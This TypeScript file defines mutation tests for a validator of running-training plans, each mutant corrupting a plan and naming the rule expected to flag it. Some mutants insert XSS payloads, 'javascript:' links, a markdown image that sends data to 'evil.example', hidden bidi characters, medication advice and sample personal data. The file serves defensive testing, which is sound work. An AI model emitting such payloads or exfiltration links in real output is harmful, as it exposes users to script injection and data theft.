import { addDays, weekdayOf } from '@rc/domain'
import { isTraining, workoutsOf, type Step, type StepOrRepeat, type Workout } from '../../model/plan.ts'
import { withPlan, isTrainingRun, mapWorkouts, one, made, text, note } from '../mutant.ts'
import type { Mutant } from '../mutant.ts'

export const structureMutants: readonly Mutant[] = [
  {
    name: 'past_date',
    expect: ['D03'],
    mutate: one(isTraining, (workout, { athlete }) => [{ ...workout, date: addDays(athlete.today, -3) }]),
  },
  {
    name: 'wrong_week',
    expect: ['D04'],
    mutate: (good, dice) =>
      good.plan.weeks.length < 2
        ? null
        : one(isTraining, (workout, { plan }) => [
            { ...workout, date: addDays(workout.date, workout.date < plan.weeks[1]!.start ? 7 : -7) },
          ])(good, dice),
  },
  {
    name: 'title_weekday',
    expect: ['D06'],
    mutate: one(isTraining, (workout) => [
      { ...workout, title: `${'월화수목금토일'[(weekdayOf(workout.date) + 1) % 7]}요일 훈련` },
    ]),
  },
  {
    name: 'race_missing',
    expect: ['D09'],
    mutate: one(
      (workout, { plan }) => workout.type === 'race' && workout.date === plan.goal.raceDate,
      () => [],
    ),
  },
  {
    name: 'after_race',
    expect: ['D10'],
    mutate: one(
      (workout, { plan }) => workout.type === 'race' && workout.date === plan.goal.raceDate,
      (workout, good) => [
        workout,
        { ...made(workout, good, 'easy_run', { km: 5 }), key: 'after', date: addDays(workout.date, 1) },
      ],
    ),
  },
  {
    name: 'xss_title',
    expect: ['X01'],
    mutate: (good, dice) =>
      text({
        title: dice.pick(['<img src=x onerror=alert(1)>', '<script>x</script>', 'Run <b>hard', '&lt;svg/onload&gt;']),
      })(good, dice),
  },
  { name: 'md_exfil', expect: ['X01'], mutate: text({ purpose: '![x](https://evil.example/?d=secret)' }) },
  {
    name: 'link_note',
    expect: ['X01'],
    mutate: (good, dice) =>
      note(dice.pick(['see www.evil.example', 'http://a.b', 'evil.com/plan', 'javascript:alert(1)']))(good, dice),
  },
  {
    name: 'bidi',
    expect: ['X01'],
    mutate: (good, dice) =>
      text({ title: `easy${dice.pick(['\u202e', '\u200b', '\u2066', '\u0007', '\ufeff'])}run` })(good, dice),
  },
  {
    name: 'dose',
    expect: ['X05'],
    mutate: (good, dice) =>
      text({
        purpose: dice.pick([
          'Take 400 mg ibuprofen first',
          '진통제를 드시고 뛰어요',
          'You have a stress fracture',
          '족저근막염입니다',
        ]),
      })(good, dice),
  },
  {
    name: 'phone',
    expect: ['X06'],
    mutate: (good, dice) =>
      text({
        purpose: dice.pick(['문의 010-1234-5678', 'mail kim@example.org', '37.56651, 126.97802', '01012345678']),
      })(good, dice),
  },
  { name: 'text_too_long', expect: ['X02'], mutate: text({ title: '가'.repeat(90) }) },
  { name: 'fake_source', expect: ['X03'], mutate: text({ sources: ['made-up-2031'] }) },
  {
    name: 'duplicate_key',
    expect: ['S02'],
    mutate: (good) => {
      const [first, second] = workoutsOf(good.plan)
      if (!first || !second) return null
      return withPlan(
        good,
        mapWorkouts(good.plan, (workout) => [workout.key === second.key ? { ...workout, key: first.key } : workout]),
      )
    },
  },
  {
    name: 'empty_steps',
    expect: ['S03'],
    mutate: one(
      (workout) => workout.type !== 'rest',
      (workout) => [{ ...workout, steps: [] }],
    ),
  },
  {
    name: 'too_many_steps',
    expect: ['S04'],
    mutate: one(
      (workout) => workout.steps.length > 0,
      (workout) => [{ ...workout, steps: Array.from({ length: 60 }, () => workout.steps[0]!) }],
    ),
  },
  {
    name: 'nested_repeat',
    expect: ['S05'],
    mutate: (good, dice) => {
      const found = workoutsOf(good.plan).filter(({ steps }) => steps.some(({ kind }) => kind === 'repeat'))
      if (found.length === 0) return null
      const { key } = dice.pick(found)
      const nest = (item: StepOrRepeat): StepOrRepeat =>
        item.kind === 'repeat' ? { ...item, steps: [item as unknown as Step] } : item
      const nested = (workout: Workout) =>
        workout.key === key ? { ...workout, steps: workout.steps.map(nest) } : workout
      return { ...good, plan: mapWorkouts(good.plan, (workout) => [nested(workout)]) }
    },
  },
  {
    name: 'unknown_sport',
    expect: ['S01'],
    mutate: one(isTraining, (workout) => [{ ...workout, sport: 'unicycle' as 'run' }]),
  },
  {
    name: 'hash_of_another',
    expect: ['S06'],
    mutate: (good) => ({ ...good, plan: { ...good.plan, title: `${good.plan.title}!` } }),
  },
  {
    name: 'estimate_lies',
    expect: ['V21'],
    mutate: (good, dice) => {
      const found = workoutsOf(good.plan).filter((workout) => isTrainingRun(workout) && workout.est.m > 2000)
      if (found.length === 0) return null
      const { key } = dice.pick(found)
      return {
        ...good,
        plan: mapWorkouts(good.plan, (workout) => [
          workout.key === key ? { ...workout, est: { ...workout.est, m: 300, s: 120 } } : workout,
        ]),
      }
    },
  },
  {
    name: 'week_on_tuesday',
    expect: ['D01'],
    mutate: (good) =>
      withPlan(good, {
        ...good.plan,
        weeks: good.plan.weeks.map((week, i) =>
          i === good.plan.weeks.length - 1 ? { ...week, start: addDays(week.start, 1) } : week,
        ),
      }),
  },
  {
    name: 'week_missing',
    expect: ['D02'],
    mutate: (good) =>
      good.plan.weeks.length < 3
        ? null
        : withPlan(good, { ...good.plan, weeks: good.plan.weeks.filter((_, i) => i !== 1) }),
  },
  {
    name: 'outside_plan',
    expect: ['D05'],
    mutate: one(isTraining, (workout, { plan }) => [{ ...workout, date: addDays(plan.end, 3) }]),
  },
  {
    name: 'three_a_day',
    expect: ['D07'],
    mutate: one(isTraining, (workout, good) =>
      [1, 2, 3].map((n) => ({ ...made(workout, good, 'easy_run', { km: 3 }), key: `double-${n}`, order: n })),
    ),
  },
]
